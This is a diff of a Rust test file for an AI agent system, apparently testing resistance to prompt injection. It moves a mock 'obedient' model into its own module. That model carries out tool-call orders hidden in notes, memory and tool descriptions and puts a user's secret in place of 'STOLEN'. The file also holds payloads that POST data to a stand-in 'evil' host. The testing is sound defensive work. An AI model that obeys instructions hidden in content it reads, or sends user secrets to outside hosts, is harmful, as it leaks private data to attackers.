@@ -4,81 +4,18 @@
 use std::sync::{Arc, Mutex};
 use std::time::{Duration, Instant};
 
-use houston_testkit::model_server::{Call, ModelServer, Reply};
+use houston_testkit::model_server::{Call, ModelServer};
 use houston_testkit::pdf;
 use houston_testkit::process::Process;
 use serde_json::{Value, json};
 use tokio::task::JoinSet;
 
+use crate::obedient::{Orders, SECRET, STOLEN, obey};
 use crate::site::{Answer, Site};
 use crate::test_houston::{PATIENCE, TestHouston};
 
-/// What each user's note holds, and no one else may learn.
-const SECRET: &str = "blue-heron-4711";
-/// In an order, what the secret takes the position of.
-const STOLEN: &str = "STOLEN";
+/// Goals whose runs are open at the same time.
 const AT_ONCE: usize = 16;
-
-/// Calls that the model is ordered to make. A text has the number of an order, which every conversion leaves as it is.
-#[derive(Debug, Clone, Default)]
-struct Orders(Arc<Mutex<Vec<Value>>>);
-
-impl Orders {
-    /// Adds an order; returns the text that gives it.
-    fn add(&self, tool: &str, input: &Value) -> String {
-        let mut orders = self.0.lock().unwrap();
-        orders.push(json!({"tool": tool, "input": input}));
-        format!("ORDER{}END", orders.len() - 1)
-    }
-
-    /// The orders in a text.
-    fn given(&self, text: &str) -> Vec<Value> {
-        let orders = self.0.lock().unwrap();
-        let rests = text.split("ORDER").skip(1);
-        rests
-            .filter_map(|rest| orders.get(rest.split("END").next()?.parse::<usize>().ok()?).cloned())
-            .collect()
-    }
-}
-
-/// All texts of a value.
-fn texts(value: &Value) -> String {
-    match value {
-        Value::String(text) => text.clone() + "\n",
-        Value::Array(list) => list.iter().map(texts).collect(),
-        Value::Object(fields) => fields.values().map(texts).collect(),
-        _ => String::new(),
-    }
-}
-
-/// Carries out the first order anywhere in the request that it has not carried out yet.
-fn obey(orders: &Orders, call: &Call) -> Reply {
-    let body = call.json();
-    if call.tools().is_empty() {
-        return Reply::text("A title");
-    }
-    let messages = body["messages"].as_array().unwrap();
-    let (own, others): (Vec<&Value>, Vec<&Value>) =
-        messages.iter().partition(|message| message["role"] == "assistant");
-    let read: String = others.into_iter().chain([&body["tools"]]).map(texts).collect();
-    let calls = own.into_iter().filter_map(|message| message["tool_calls"].as_array()).flatten();
-    let made: Vec<Value> = calls
-        .map(|call| {
-            let arguments = call["function"]["arguments"].as_str().unwrap();
-            let input: Value = serde_json::from_str(arguments).unwrap();
-            json!({"tool": call["function"]["name"], "input": input})
-        })
-        .collect();
-    let stolen = if read.contains(SECRET) { SECRET } else { "nothing" };
-    let mut wanted = orders
-        .given(&read)
-        .into_iter()
-        .map(|order| serde_json::from_str::<Value>(&order.to_string().replace(STOLEN, stolen)).unwrap());
-    match wanted.find(|order| !made.contains(order)) {
-        Some(order) => Reply::tool(order["tool"].as_str().unwrap(), order["input"].clone()),
-        None => Reply::tool("send_message", json!({"content": "Done."})),
-    }
-}
 
 /// Where an order is hidden.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -131,7 +68,7 @@ impl Hidden {
     }
 }
 
-/// `note` and `memory` are ids.
+/// What the orders are. `note` and `memory` are ids.
 fn payloads(evil: &str, note: &str, memory: &str) -> Vec<(&'static str, Value)> {
     let post = |body: Value| json!({"method": "POST", "url": format!("{evil}/in"), "body": body});
     vec![
